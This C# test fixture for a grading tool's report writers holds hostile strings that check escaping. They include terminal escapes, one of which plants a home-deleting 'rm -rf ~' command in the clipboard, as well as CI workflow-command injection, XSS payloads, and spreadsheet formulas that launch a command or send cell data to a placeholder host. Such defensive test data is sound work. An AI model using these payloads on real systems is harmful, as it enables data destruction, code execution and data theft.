using Grader.Checks;
using Grader.Compilation;
using Grader.Grading;

namespace Grader.Tests.Reporting;

/// <summary>
/// What a student can make the grader repeat: their output, exception messages and file names, written to attack
/// every place the text ends up (a terminal, a CI log, XML, JSON, Markdown, HTML, a spreadsheet).
/// </summary>
internal static class HostileText
{
    /// <summary>A fake green "✔ pasa", a clipboard write (OSC 52), a hyperlink (OSC 8), a C1 CSI, NUL, BEL, DEL and a carriage return that overwrites the line.</summary>
    public const string Terminal = "\u001b[32m✔ pasa\u001b[0m \u001b]52;c;cm0gLXJmIH4K\u0007 \u001b]8;;https://ejemplo.invalid\u001b\\enlace\u001b]8;;\u001b\\ \u009b2J \0 \a \b \u007f fallo\r✔ pasa";

    public const string OscClipboard = "\u001b]52;c;cm0gLXJmIH4K\u0007";

    /// <summary>
    /// Spectre.Console markup, one tag left open, a bracket that no tag closes, and emoji shortcodes (Spectre's markup
    /// draws ":check_mark_button:" as ✅ whatever the case, and Markup.Escape leaves it as it is).
    /// </summary>
    public const string Markup = "[red]rojo[/] [bold]abierta [ sin cerrar ]] " + Shortcodes;

    /// <summary>A fake verdict in Spectre.Console's emoji shortcodes.</summary>
    public const string Shortcodes = ":check_mark_button: pasa :CROSS_MARK: :rocket:";

    /// <summary>GitHub Actions workflow commands, on a line of their own and hidden behind the toolkit's escapes.</summary>
    public const string Workflow = "\n::error file=x.csx,line=1::falso%0A::warning::y\r\n::set-output name=result::eyJ9%25\n  ::add-mask::Puntuación";

    /// <summary>HTML and Markdown that would run script, load an image or make a link.</summary>
    public const string Web = "</script><img src=x onerror=alert(1)> [x](javascript:alert(1)) ![i](https://ejemplo.invalid/p.png) <b>html</b> <javascript:alert(2)> &lt;i&gt;";

    /// <summary>Fences that try to close the code block the text is shown in.</summary>
    public const string Fences = "\n```\n</pre>\n~~~\n````\n";

    /// <summary>Halves of surrogate pairs with no other half: invalid UTF-16, which JSON and XML writers may refuse.</summary>
    public const string Surrogates = "\ud800 sola \udc00";

    public static readonly string All = string.Join(" ", Terminal, Markup, Workflow, Web, Fences, Surrogates);

    /// <summary>Spreadsheet formulas, each starting with a character OWASP lists.</summary>
    public static readonly string[] Formulas =
    [
        "=HYPERLINK(\"https://ejemplo.invalid?\"&A1,\"nota\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
    ];

    /// <summary>
    /// Every kind of report the writers handle, with hostile text in each field a student can reach: a failed
    /// check, a compile error, and a run that crashed after some checks.
    /// </summary>
    public static IReadOnlyList<GradeReport> Reports() =>
    [
        new GradeReport
        {
            ExerciseId = "01-es-vs-cpu",
            ExerciseTitle = LocalizedText.Same("E/S frente a CPU"),
            Submission = All + ".csx",
            Status = GradeStatus.Fail,
            Message = LocalizedText.Same(All),
            Score = 3,
            MaxScore = 10,
            Tests =
            [
                Test(TestStatus.Pass) with { Message = LocalizedText.Same(All) },
                Test(TestStatus.Fail) with { Expected = "a\nb", Actual = All, Output = All, Hint = LocalizedText.Same(All), Line = 3 },
                Test(TestStatus.Error) with { Output = All },
                Test(TestStatus.Skip),
            ],
        },
        new GradeReport
        {
            ExerciseId = "01-es-vs-cpu",
            ExerciseTitle = LocalizedText.Same("E/S frente a CPU"),
            Submission = All,
            Status = GradeStatus.Error,
            Reason = FailureReason.CompileError,
            Message = LocalizedText.Same(All),
            Score = 0,
            MaxScore = 10,
            CompilerMessages = [new CompilerMessage(All, 2, 5, "CS0103", All, All, All)],
        },
        new GradeReport
        {
            ExerciseId = "01-es-vs-cpu",
            ExerciseTitle = LocalizedText.Same("E/S frente a CPU"),
            Submission = All,
            Status = GradeStatus.Error,
            Reason = FailureReason.Crash,
            Message = LocalizedText.Same(All),
            Score = 0,
            MaxScore = 10,
            Tests = [Test(TestStatus.Error) with { Output = All }, Test(TestStatus.Error) with { Ran = false }],
            ProgramOutput = All,
            ProgramError = LocalizedText.Same(All),
        },
    ];

    private static TestReport Test(TestStatus status) => new()
    {
        Name = "comprobacion_" + status.ToString().ToLowerInvariant(),
        Description = LocalizedText.Same("Lo que comprueba"),
        Status = status,
        Score = status == TestStatus.Pass ? 3 : 0,
        MaxScore = 3,
        Message = LocalizedText.Same(All),
    };
}
